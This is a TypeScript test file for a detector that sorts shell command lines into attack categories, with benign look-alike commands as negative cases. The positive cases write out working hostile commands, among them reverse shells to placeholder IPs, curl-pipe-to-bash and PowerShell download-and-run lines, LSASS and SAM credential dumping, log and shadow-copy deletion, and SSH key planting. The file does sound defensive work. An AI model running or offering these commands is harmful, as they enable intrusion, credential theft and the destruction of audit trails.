import { expect, test } from "vitest";
import { type CommandSign, commandSign } from "./command-signs.ts";

test.each<[CommandSign, string]>([
  ["reverse-shell", "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"],
  ["reverse-shell", "exec 5<>/dev/tcp/198.51.100.9/9001; cat <&5 | sh >&5"],
  ["reverse-shell", "ncat 198.51.100.9 9001 -e /bin/bash"],
  ["reverse-shell", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.7 443 >/tmp/f"],
  ["reverse-shell", "python3 -c import socket,os;s=socket.socket();os.dup2(s.fileno(),0);os.system('/bin/sh')"],
  ["encoded-command", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"],
  ["download-and-run", "powershell IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a')"],
  ["download-and-run", "curl -fsSL http://198.51.100.7/i.sh | sudo bash"],
  ["download-and-run", "regsvr32 /s /n /u /i:http://198.51.100.9/a.sct scrobj.dll"],
  ["history-cleared", "ln -sf /dev/null /root/.bash_history"],
  ["history-cleared", "history -c"],
  ["log-cleared", "wevtutil cl Security"],
  ["log-cleared", "sh -c 'echo > /var/log/wtmp'"],
  ["copies-deleted", "vssadmin.exe Delete Shadows /All /Quiet"],
  ["copies-deleted", "bcdedit /set {default} recoveryenabled No"],
  ["credentials-dumped", "reg save hklm\\sam c:\\temp\\sam.save"],
  ["credentials-dumped", "rundll32 C:\\windows\\system32\\comsvcs.dll,#24 700 C:\\t\\x full"],
  ["credentials-dumped", "cp /etc/shadow /tmp/s"],
  ["guard-stopped", "systemctl disable --now auditd"],
  ["guard-stopped", "auditpol /clear /y"],
  ["keys-written", "tee -a /root/.ssh/authorized_keys"],
  ["keys-written", "sed -i $a ssh-rsa AAAA /root/.ssh/authorized_keys"],
  ["user-added", "net localgroup administrators hax /add"],
  ["remote-shell", "%SystemRoot%\\PSEXESVC.exe"],
])("%s: %s", (sign, line) => {
  expect(commandSign(line)).toBe(sign);
});

test.each([
  "systemctl restart rsyslog",
  "nc -zv 10.0.0.5 22",
  "socat TCP-LISTEN:80,fork TCP:10.0.0.9:8080",
  "python3 -c import socket; print(socket.gethostname())",
  "rm -f /var/log/nginx/access.log.2.gz",
  "journalctl --vacuum-time=14d",
  "tar czf /backup/etc.tgz /etc",
  "ls -la /root/.ssh/authorized_keys",
  "cat /etc/passwd",
  "net user /domain",
  "auditpol /get /category:*",
  "wevtutil qe Security /c:5",
  "vssadmin list shadows",
  "certutil -hashfile a.exe SHA256",
  "reg query HKLM\\SYSTEM",
  "powershell -File C:\\jobs\\a.ps1",
  "curl -fsS -o /tmp/x.deb https://example.com/x.deb",
])("work shows nothing: %s", (line) => {
  expect(commandSign(line)).toBeUndefined();
});
